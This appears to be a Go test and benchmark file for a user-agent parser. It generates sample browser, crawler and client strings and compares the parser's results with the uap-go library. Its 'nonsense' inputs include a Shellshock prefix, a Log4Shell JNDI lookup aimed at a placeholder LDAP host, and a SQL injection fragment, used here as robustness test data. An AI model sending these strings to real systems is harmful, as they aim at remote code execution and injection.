package useragentparser

import (
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/ua-parser/uap-go/uaparser"
)

// families are forms of texts that browsers, programs and crawlers send. {a|b|c} stands for
// one of its parts, # for a digit, and % for one or two of them.
var families = []string{
	// browsers on desks
	"Mozilla/5.0 ({Windows NT 10.0; Win64; x64|Windows NT 6.{1|2|3}; WOW64|Macintosh; Intel Mac OS X 10_1#_#|Macintosh; Intel Mac OS X 14.#|X11; Linux x86_64|X11; CrOS x86_64 1#541.0.0|X11; Ubuntu; Linux i686}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1%#.0.{0|4%#}.{0|1%} Safari/537.36{|| Edg/1%.0.2%#.%| OPR/9%.0.4%#.%| Vivaldi/6.%|.# YaBrowser/2#.#.0.1%# Yowser/2.5}",
	"Mozilla/5.0 ({Windows NT 10.0; Win64; x64|Windows NT 6.#|Macintosh; Intel Mac OS X 10.1#|X11; Ubuntu; Linux x86_64|X11; Fedora; Linux x86_64|X11; FreeBSD amd64|Android 1#; Mobile}; rv:%.0) Gecko/{20100101|%.0} Firefox/%.{0|#|#.#}{|| Waterfox/%.0| SeaMonkey/2.%| PaleMoon/%.#.#}",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_1#{|_#}) AppleWebKit/60#.#.% (KHTML, like Gecko) Version/1#.#{|.#} Safari/60#.#.%",
	"Mozilla/{4|5}.0 (compatible; MSIE {6|7|8|9|10}.0; Windows NT {5.1|6.0|6.1|6.2}{|; Trident/#.0|; .NET CLR 2.0.5%|; SLCC2; Media Center PC 6.0})",
	"Mozilla/5.0 (Windows NT 6.#; {|WOW64; }Trident/7.0; {|Touch; }rv:11.0) like Gecko",
	"Opera/9.{8|6%} ({Windows NT 6.#|X11; Linux i686|Macintosh; Intel Mac OS X 10.#.#|J2ME/MIDP; Opera Mini/{7.1.3%|4.2.1%}/{2%.|3#.}1%}; U; {en|de|ru}) Presto/2.{2|1%}.% Version/1{0|1|2}.%",
	// phones and tablets
	"Mozilla/5.0 (iPhone; CPU iPhone OS 1#_#{|_#} like Mac OS X) AppleWebKit/60#.1.% (KHTML, like Gecko) {Version/1#.# |CriOS/1%.0.4%#.% |FxiOS/%.0 |EdgiOS/%.0.# |GSA/1%.0.5% |}Mobile/15E1#{8| Safari/604.1}{|| [FBAN/FBIOS;FBAV/3%.0.0.%;FBDV/iPhone1#,#;FBMD/iPhone]| Instagram 2%.0.0.% (iPhone1#,#; iOS 1#_#)}",
	"Mozilla/5.0 ({iPad; CPU OS 1#_#|iPod touch; CPU iPhone OS 1#_#} like Mac OS X) AppleWebKit/60#.#.% (KHTML, like Gecko) Version/1#.# Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (Linux; Android {1#|9|8.1.0|7.#}; {SM-{G9%#B|A5%F|T5#0|S9%#U|N97%U1}|Pixel {#|# Pro|#a|# XL}|Redmi Note {#|1#} Pro|M2%#J2%SG|HUAWEI {P30|VOG-L%|MAR-LX#A}|ONEPLUS A6%|CPH2%|moto g({#|##})|LM-{Q|X}%0|Nokia {#.#|3%}|XQ-AS5#|SHIELD Android TV|KFTRWI|K}{| Build/{QP1A.1%|RKQ1.2%|PKQ1.1%}|; wv}) AppleWebKit/537.36 (KHTML, like Gecko) {|Version/4.0 |SamsungBrowser/1#.# }Chrome/1%.0.4%#.% {Mobile |}Safari/537.36{|| EdgA/1%.0.1%| OPR/6%.1.2%#.%| [FB_IAB/FB4A;FBAV/3%.0.0.%;]}",
	"Mozilla/5.0 (Linux; U; Android {2.3.#|4.#.#}; {en-us|de-de|zh-cn}; {GT-I9%00|HTC_DesireS_S510e|HTC Sensation Z710e|LG-P7%|SonyEricsson{LT1#i|ST%a}|MB860|Nexus {S|7|One}|Kindle Fire|HUAWEI U8%0|ZTE-BLADE} Build/{GRJ90|IML74K|JOP40%|JZO54K}) AppleWebKit/53#.# (KHTML, like Gecko) Version/4.0 Mobile Safari/53#.#",
	"Mozilla/5.0 (compatible; MSIE {9|10}.0; Windows Phone {OS 7.5|8.0}; Trident/{5|6}.0; IEMobile/{9|10}.0; {NOKIA|HTC|SAMSUNG}; {Lumia {800|920|6%}|HTC_Titan|SGH-i917})",
	"Mozilla/5.0 (BlackBerry; U; BlackBerry 9{3|7|8}{00|10}; en) AppleWebKit/534.{1|8}+ (KHTML, like Gecko) Version/{6.0.0.3%|7.1.0.3%} Mobile Safari/534.{1|8}+",
	"Nokia{6%00|C#-0#|E%|N%}/{2.0|10.0.0%} ({0#.%|1%}) Profile/MIDP-2.{0|1} Configuration/CLDC-1.1{| UCBrowser/9.#.0.1% U2/1.0.0 Mobile}",
	"Mozilla/5.0 (SymbianOS/9.#; Series60/3.# NokiaE%/1%.21.0%; Profile/MIDP-2.1 Configuration/CLDC-1.1 ) AppleWebKit/41# (KHTML, like Gecko) Safari/41#",
	"{SAMSUNG-SGH-{E2%|D9%}/1.0|LG-{KU9%|KP5%}/V1.0|SonyEricsson{K8%i|W5%}/R#AA} {NetFront/3.#|Browser/Obigo-Q05A/3.%|Profile/MIDP-2.0} Configuration/CLDC-1.1",
	"Mozilla/5.0 ({SMART-TV; {Linux; |}Tizen #.#|Web0S; Linux/SmartTV|Linux; Tizen 2.#; SAMSUNG SM-R7%|PlayStation 4 #.%|PlayStation Vita 3.6#|Nintendo 3DS; U; ; en|Nintendo WiiU|Nintendo Switch; WifiWebAuthApplet}) AppleWebKit/{538.1|60#.#} (KHTML, like Gecko){| Version/#.# TV Safari/538.1| SamsungBrowser/2.# TV Safari/538.1| NF/4.0.0.#.% NintendoBrowser/5.1.0.1%}",
	// crawlers
	"Mozilla/5.0 (compatible; {Googlebot/2.1; +http://www.google.com/bot.html|bingbot/2.0; +http://www.bing.com/bingbot.htm|YandexBot/3.0; +http://yandex.com/bots|Baiduspider/2.0; +http://www.baidu.com/search/spider.html|AhrefsBot/#.#; +http://ahrefs.com/robot/|SemrushBot/#~bl; +http://www.semrush.com/bot.html|MJ12bot/v1.4.#; http://mj12bot.com/|DotBot/1.#; +https://opensiteexplorer.org/dotbot|PetalBot;+https://webmaster.petalsearch.com/site/petalbot|SeznamBot/3.2-test%; +http://napoveda.seznam.cz/seznambot-intro/|Yahoo! Slurp/3.#; http://help.yahoo.com/help/us/ysearch/slurp|Exabot/3.0; +http://www.exabot.com/go/robot|spbot/4.#.#; +http://OpenLinkProfiler.org/bot|BLEXBot/1.0; +http://webmeup-crawler.com/|GPTBot/1.#; +https://openai.com/gptbot|DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot|coccocbot-web/1.#; +http://help.coccoc.com/searchengine})",
	"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1%.0.6%#.% Mobile Safari/537.36 (compatible; {Googlebot/2.1; +http://www.google.com/bot.html|bingbot/2.0; +http://www.bing.com/bingbot.htm|AdsBot-Google-Mobile; +http://www.google.com/mobile/adsbot.html})",
	"{facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)|Twitterbot/1.#|Slackbot-LinkExpanding 1.# (+https://api.slack.com/robots)|LinkedInBot/1.# (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)|WhatsApp/2.%.% {A|i|N}|TelegramBot (like TwitterBot)|Discordbot/2.#|msnbot-media/1.% (+http://search.msn.com/msnbot.htm)|ia_archiver (+http://www.alexa.com/site/help/webmasters; crawler@alexa.com)|CCBot/2.# (https://commoncrawl.org/faq/)|Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)|Applebot/0.# (+http://www.apple.com/go/applebot)|AdsBot-Google (+http://www.google.com/adsbot.html)|Googlebot-{Image|News|Video}/1.#|Mediapartners-Google|magpie-crawler/1.# (U; Linux amd64; en-GB; +http://www.brandwatch.net)|Scrapy/1.% (+https://scrapy.org)|heritrix/3.#.#}",
	// programs
	"{curl/7.%.#|Wget/1.%{| (linux-gnu)}|python-requests/2.%.#|Python-urllib/{2|3}.%|Go-http-client/{1.1|2.0}|Java/1.{6|7|8}.0_%#|Apache-HttpClient/4.#.# (Java/1.8.0_%)|okhttp/{3|4}.%.#|axios/0.2%.#|node-fetch/1.0|libwww-perl/6.%|Ruby|PHP/{5|7}.%.#|GuzzleHttp/6.#.# curl/7.%.0 PHP/7.%.#|PostmanRuntime/7.%.#|aiohttp/3.#.# Python/3.# |Dalvik/2.1.0 (Linux; U; Android 1#; SM-A5%F Build/RP1A.2%)|CFNetwork/1%.0.4 Darwin/2%.#.0|MyApp/%.# CFNetwork/9%.3 Darwin/1%.#.0|Microsoft Office/1#.0 (Windows NT 10.0; Microsoft Outlook 1#.0.1%; Pro)|Mozilla/5.0 (X11; U; Linux i686; en-US) Thunderbird/%.#.#|iTunes/12.%.# (Macintosh; OS X 10.1#.#) AppleWebKit/60#.#|Spotify/8.#.% Android/2# (SM-G9%)|VLC/3.0.# LibVLC/3.0.#|AppleCoreMedia/1.0.0.1%G%# (iPhone; U; CPU OS 1#_# like Mac OS X; en_us)|Lavf/5%.%.1%|Roku/DVP-9.% (5%.%E0#1%A)}",
	// nonsense
	"{|-|spam|%|Mozilla/5.0|Mozilla/5.0 (compatible)|() { :; }; echo|${jndi:ldap://x.y/%}|ünïcöde/%.# (日本語)|ſpider/%|BOT\u212a/%|' or #=#;--|Mozilla/4.0 (; MSIE ;) spider crawler robot %}",
}

// sampleAgents makes n different texts of these forms, always the same ones.
func sampleAgents(n int) []string {
	rnd := rand.New(rand.NewPCG(1, 2))
	seen := map[string]bool{}
	var list []string
	for len(list) < n {
		s := expandForm(rnd, families[len(seen)%len(families)])
		if rnd.IntN(20) == 0 {
			s = strings.ToUpper(s)
		}
		if seen[s] { // it is the turn of another form
			s += fmt.Sprintf(" (%d)", len(seen))
		}
		seen[s] = true
		list = append(list, s)
	}
	return list
}

func expandForm(rnd *rand.Rand, form string) string {
	var out strings.Builder
	for i := 0; i < len(form); i++ {
		switch form[i] {
		case '#':
			fmt.Fprint(&out, rnd.IntN(10))
		case '%':
			fmt.Fprint(&out, rnd.IntN(100))
		case '{':
			parts, n := partsOf(form[i+1:])
			out.WriteString(expandForm(rnd, parts[rnd.IntN(len(parts))]))
			i += n
		default:
			out.WriteByte(form[i])
		}
	}
	return out.String()
}

// partsOf takes what stands up to the closing brace apart, and tells how long it is.
func partsOf(form string) (parts []string, n int) {
	depth, begin := 0, 0
	for i := range len(form) {
		switch c := form[i]; {
		case c == '{':
			depth++
		case c == '}' && depth > 0:
			depth--
		case depth == 0 && (c == '|' || c == '}'):
			parts = append(parts, form[begin:i])
			begin = i + 1
			if c == '}' {
				return parts, i + 1
			}
		}
	}
	return []string{""}, 0 // a brace that is just one
}

func ofLibrary(c *uaparser.Client) client {
	return client{
		[4]string{c.UserAgent.Family, c.UserAgent.Major, c.UserAgent.Minor, c.UserAgent.Patch},
		[5]string{c.Os.Family, c.Os.Major, c.Os.Minor, c.Os.Patch, c.Os.PatchMinor},
		[3]string{c.Device.Family, c.Device.Brand, c.Device.Model},
	}
}

func builtin(t testing.TB) *matcher {
	t.Helper()
	r, err := readRules(uaparser.DefinitionYaml)
	if err != nil {
		t.Fatal(err)
	}
	return newMatcher(r)
}

func TestResultsAreThoseOfTheLibrary(t *testing.T) {
	library, err := uaparser.New()
	if err != nil {
		t.Fatal(err)
	}
	m := builtin(t)
	kinds := map[string]bool{}
	for _, text := range sampleAgents(1000) {
		got := m.recognise(text)
		if text == "" || text == "-" {
			continue // these are never looked at
		}
		if want := ofLibrary(library.Parse(text)); got != want {
			t.Errorf("%q is\n%q, want\n%q", text, got, want)
		}
		kinds[got.agent[0]+"|"+got.system[0]+"|"+got.device[0]] = true
	}
	if len(kinds) < 250 {
		t.Errorf("there are only %d different results", len(kinds))
	}
}

func TestFewPatternsAreTried(t *testing.T) {
	m := builtin(t)
	texts, tried := sampleAgents(1000), 0
	for _, text := range texts {
		m.listen(text)
		for i := m.next(0); i < len(m.all); i = m.next(i + 1) {
			if m.met(m.all[i].needs) {
				tried++
			}
		}
	}
	if mean := tried / len(texts); mean > 20 {
		t.Errorf("there are %d patterns for a text, of %d", mean, len(m.all))
	}
}

func BenchmarkThousandAgents(b *testing.B) {
	texts := sampleAgents(1000)
	b.Run("ours", func(b *testing.B) {
		b.ReportAllocs()
		m := builtin(b)
		for _, text := range texts {
			m.recognise(text) // what is compiled when it is needed first
		}
		for i := 0; b.Loop(); i++ {
			m.recognise(texts[i%len(texts)])
		}
	})
	b.Run("library", func(b *testing.B) {
		b.ReportAllocs()
		library, err := uaparser.New(uaparser.WithCacheSize(1)) // nothing can be looked up
		if err != nil {
			b.Fatal(err)
		}
		for i := 0; b.Loop(); i++ {
			library.Parse(texts[i%len(texts)])
		}
	})
}
